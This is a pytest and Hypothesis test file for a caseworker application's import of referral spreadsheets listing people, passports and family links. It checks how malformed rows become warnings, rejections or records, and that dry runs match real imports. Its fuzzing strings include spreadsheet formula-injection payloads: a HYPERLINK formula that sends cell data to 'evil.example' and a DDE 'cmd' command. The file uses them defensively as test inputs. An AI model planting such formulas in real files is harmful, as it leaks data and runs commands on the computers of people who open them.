"""Rows of any shape reach the store: different rows fill different columns (issue 12, points 1 and 3)."""

from __future__ import annotations

import datetime as dt
import re
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from caseworker.domain.errors import ValidationError
from caseworker.services.api import Services
from caseworker.services.intake import ImportRequest
from caseworker.store.engine import Store
from caseworker.store.models import Case, Person
from tests.support import referrals
from tests.support.stores import services_for

HEADINGS = ("Name", "Current area", "Employer", "Place of birth", "Father's name", "Passport No.", "Phone")


def test_rows_filling_different_columns_are_all_written(caseworker: Services, tmp_path: Path) -> None:
    # Thirty rows, each leaving empty a different subset of the columns others fill (the
    # shape that made SQLAlchemy refuse the bulk INSERT in "parameter group 27").
    rows = []
    for i in range(30):
        rows.append((f"Person{i} Shape{i}", "Kabul" if i % 2 else None, "British Embassy" if i % 3 == 0 else "",
                     "Herat" if i % 5 == 0 else None, "Ghulam" if i % 7 == 0 else None,
                     f"P{7000000 + i}" if i % 4 == 0 else None, None))
    listing = referrals.write_xlsx(tmp_path / "shapes.xlsx", rows, HEADINGS, title=None)
    report = caseworker.intake.run_import(ImportRequest(listing, source="Shapes"))
    assert report.created == 30 and report.rejected == 0 and report.cases_created == 30
    with caseworker.store.read() as session:
        areas = dict(session.execute(select(Case.principal_name, Case.current_area)).all())
        places = dict(session.execute(select(Person.doc_surname, Person.place_of_birth)).all())
    assert areas["PERSON1 SHAPE1"] == "Kabul" and areas["PERSON2 SHAPE2"] == ""
    assert places["SHAPE5"] == "Herat" and places["SHAPE6"] == ""


WARN_HEADINGS = ("Name", "Father's name", "Sex", "DOB", "Place of birth", "Passport No.", "Phone", "Relationship",
                 "Family")


def test_a_bad_value_is_a_warning_on_its_field_never_the_loss_of_the_person(
        caseworker: Services, tmp_path: Path) -> None:
    rows = [  # each row has one value that cannot be read, in a different field
        ("Ahmad Noori", "", "", "", "", "", "070 123 456", "", ""),  # a digit missing
        ("Bashir Amiri", "", "", "", "", "P-12345678901234567890123456789012345678901", "", "", ""),
        ("Qasim Sadat", "", "", "30/02/1991", "", "", "", "", ""),
        ("Yusuf Kakar", "", "", "", "Kabul" * 60, "", "", "", ""),
        ("Zahir Hashimi", "", "", "", "", "", "", "", "F1"),  # principal of family F1
        ("Mina Hashimi", "", "", "", "", "", "", "cousin-in-law", "F1"),
        ("Wahid Popal", "", "male?female", "", "", "", "", "", ""),
        ("Rashid Wardak", "Gul Mohammad " * 20, "", "", "", "", "", "", ""),  # longer than a name can be
        ("Karim Ahmadzai", "", "", "1850", "", "", "", "", ""),  # not a plausible date of birth
    ]
    listing = referrals.write_xlsx(tmp_path / "warn.xlsx", rows, WARN_HEADINGS, title=None)
    report = caseworker.intake.run_import(ImportRequest(listing, source="Warnings"))
    assert report.rejected == 0 and report.created == len(rows)
    warned = {(w.row, w.column): w for w in report.warnings}
    assert set(warned) == {(2, "Phone"), (3, "Passport No."), (4, "DOB"), (5, "Place of birth"),
                           (7, "Relationship"), (8, "Sex"), (9, "Father's name"), (10, "DOB")}
    assert warned[(2, "Phone")].value == "070 123 456" and warned[(8, "Sex")].value == "male?female"
    assert warned[(5, "Place of birth")].message.startswith("is too long")
    by_row = {r.row: r for r in report.results}
    for row, column in warned:  # the person is in, the field empty, the value in the case's notes
        case = caseworker.cases.get_by_reference(by_row[row].case)
        person = next(p for p in case.people if p.id == by_row[row].person_id)
        assert warned[(row, column)].value[:40] in case.notes and column in case.notes
        assert (person.birth_date, person.documents, person.contact_points, person.sex if row == 8 else "X") == (
            None, (), (), "X")
    hashimi = caseworker.cases.get_by_reference(by_row[7].case)
    assert [p.relationship for p in hashimi.people] == ["SELF", "OTHER"]
    assert caseworker.cases.get_by_reference(by_row[9].case).people[0].father_name == ""


def test_a_row_is_rejected_only_when_it_cannot_become_a_person(caseworker: Services, tmp_path: Path) -> None:
    rows = [
        ("A" * 32000, "", "", "", "", "", "", "", ""),  # beyond the store's limits
        ("", "Ghulam", "M", "1980", "Kabul", "P1234567", "0701234567", "", "F2"),  # no name in any script
        ("Sohaila Haidari", "", "F", "", "", "", "", "wife", "F2"),  # its principal was rejected
        (None, None, None, None, None, None, None, None, "Total: 3 people"),  # not a person
        ("ناصر احمدزی", "", "", "", "", "", "", "", ""),  # a name in Dari only is a name
    ]
    listing = referrals.write_xlsx(tmp_path / "rej.xlsx", rows, WARN_HEADINGS, title=None)
    report = caseworker.intake.run_import(ImportRequest(listing, source="Rejects", rejects_path=tmp_path / "r.xlsx"))
    outcomes = {r.row: r.outcome for r in report.results}
    assert outcomes == {2: "REJECTED", 3: "REJECTED", 4: "REJECTED", 5: "REJECTED", 6: "CREATED"}
    problems = {(p.row, p.column): p.message for p in report.problems}
    assert problems[(2, "Name")].startswith("is 32,000 characters long")
    assert problems[(3, "Name")].startswith("no usable name in any script")
    assert "its principal (row 3) was rejected" in problems[(4, "")]


# -- any workbook: the dry run and the import agree, and the store never refuses a batch ------------------------

SHAPE_HEADINGS = ("Ref", "Principal ref", "Full Name", "Name (Dari/Pashto)", "Father's name", "Sex", "DOB",
                  "Place of birth", "Passport No.", "Tazkira", "Phone/WhatsApp", "Email", "Relationship",
                  "Current area", "Employer", "Scheme", "Priority", "Post", "Comments")
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")  # openpyxl refuses them; the CSV readers are tested apart
shape_texts = (st.text(max_size=30).map(lambda t: _ILLEGAL.sub("", t))
               | st.sampled_from(["Ahmad Karimi", "فاطمه کریمی", "self", "wife", "son", "M", "female", "1369/05/12",
                                  "31/02/1990", "c. 1980", "0701234567", "070 123 456", "+93 70 999 8888", "P01234567",
                                  "1400-0101-12345", "ISB", "ZZZ", "ARAP", "urgent", "MP-001", "F1", "a@b", "12345",
                                  '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0",
                                  "@SUM(1)", "-2+3", "\u200fاحمد\u200e"])
               | st.integers(min_value=1, max_value=60).map(lambda n: "Ahmad " * n * 100))  # up to 36,000 characters
shape_cells = (st.none() | shape_texts | st.integers(min_value=-(10**15), max_value=10**15)
               | st.floats(allow_nan=False, allow_infinity=False) | st.booleans()
               | st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)).map(
                   lambda m: m.replace(microsecond=0)))


@st.composite
def workbooks(draw: st.DrawFn) -> tuple[tuple[str, ...], list[list[object]]]:
    columns = draw(st.lists(st.sampled_from(SHAPE_HEADINGS), min_size=1, max_size=10, unique=True))
    if "Full Name" not in columns and "Name (Dari/Pashto)" not in columns:
        columns.append("Full Name")
    rows = draw(st.lists(st.lists(shape_cells, min_size=len(columns), max_size=len(columns)), min_size=1, max_size=12))
    return tuple(columns), rows


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow, HealthCheck.data_too_large])
@given(book=workbooks())
def test_any_workbook_the_dry_run_and_the_import_agree_and_the_store_takes_it(
        sqlite_store: Store, tmp_path_factory: pytest.TempPathFactory,
        book: tuple[tuple[str, ...], list[list[object]]]) -> None:
    services = services_for(sqlite_store, "caseworker")
    headings, rows = book
    folder = tmp_path_factory.mktemp("shape")
    listing = referrals.write_xlsx(folder / "any.xlsx", rows, headings, title=None)
    request = ImportRequest(listing, source=f"Shapes {len(rows)}", mapping_json={"defaults": {"post": "ISB"}},
                            rejects_path=folder / "rejects.xlsx")
    try:
        dry = services.intake.run_import(replace(request, dry_run=True, rejects_path=folder / "dry.xlsx"))
    except ValidationError as exc:  # a sheet that is no list of people (no name column found) is refused whole
        assert exc.field in ("mapping", "file", None), exc
        return
    real = services.intake.run_import(request)  # no StatementError, IntegrityError, DataError …
    assert (folder / "dry.xlsx").exists() == (folder / "rejects.xlsx").exists()  # the same rows to fix
    assert [(r.row, r.outcome, r.warnings) for r in dry.results] == [(r.row, r.outcome, r.warnings)
                                                                     for r in real.results]
    assert (dry.created, dry.queued, dry.linked, dry.updated, dry.rejected, dry.unchanged, dry.cases_created) == (
        real.created, real.queued, real.linked, real.updated, real.rejected, real.unchanged, real.cases_created)
    assert dry.problems == real.problems and dry.warnings == real.warnings
    for result in real.results:  # every warning names its row and column
        assert all(w for w in result.warnings)
    for warning in real.warnings:
        assert warning.row >= 2 and warning.message
    assert services.history.verify().ok


def test_the_dry_run_runs_the_writing_and_leaves_nothing(caseworker: Services, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from caseworker.services.intake import writer

    listing = referrals.write_xlsx(tmp_path / "mp.xlsx")
    before = caseworker.history.verify()
    dry = caseworker.intake.run_import(ImportRequest(listing, source="MP", dry_run=True))
    assert dry.created == 10 and dry.batch_id is None and caseworker.intake.sources() == []
    assert caseworker.history.verify() == before  # the audit events it wrote were rolled back with the rest

    def refused(self, creating):  # type: ignore[no-untyped-def]
        raise RuntimeError("the store refused the people")

    monkeypatch.setattr(writer.BatchWriter, "_new_people", refused)
    with pytest.raises(RuntimeError, match="the store refused"):  # what would break the import breaks the dry run
        caseworker.intake.run_import(ImportRequest(listing, source="MP", dry_run=True))
